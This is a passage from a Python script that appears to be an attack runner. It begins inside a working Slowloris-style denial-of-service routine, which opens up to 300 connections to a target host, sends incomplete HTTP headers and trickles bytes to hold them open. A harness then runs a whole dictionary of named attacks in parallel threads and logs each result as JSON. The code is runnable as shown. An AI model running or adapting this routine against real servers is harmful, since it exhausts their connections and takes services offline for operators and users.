    held, missed = [], 0
    at = socket.getaddrinfo(FREE, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    try:
        while len(held) < 300 and missed < 3:
            try:
                s = socket.create_connection(at, 1)
                held.append(s)
                s.sendall(f"GET / HTTP/1.1\r\nHost: {FREE}\r\nY: {m}\r\nX: ".encode())
            except OSError:
                missed += 1
        for _ in range(WAIT):
            for s in held:
                try:
                    s.sendall(b"x")
                except OSError:
                    pass
            time.sleep(1)
        return f"{len(held)} held"
    finally:
        for s in held:
            s.close()


def said(name, f):
    began = time.monotonic()
    try:
        out = f(mark(name))
    except Exception as e:  # whatever kept it from getting through
        out = f"{type(e).__name__}: {e}"
    text = out.decode("latin-1") if isinstance(out, bytes) else str(out)
    return json.dumps({"name": name, "said": text[:4000], "took": round(time.monotonic() - began, 1)})


def main():
    names = sys.argv[2:] or [n for n in list(ATTACKS) + list(LAST) if not n.startswith(tuple(WORLD["skip"]))]
    with concurrent.futures.ThreadPoolExecutor(WORLD.get("threads", 24)) as pool:
        for line in pool.map(lambda n: said(n, ATTACKS[n]), [n for n in names if n in ATTACKS]):
            print(line, flush=True)
    for n in names:
        if n in LAST:
            print(said(n, LAST[n]), flush=True)


main()
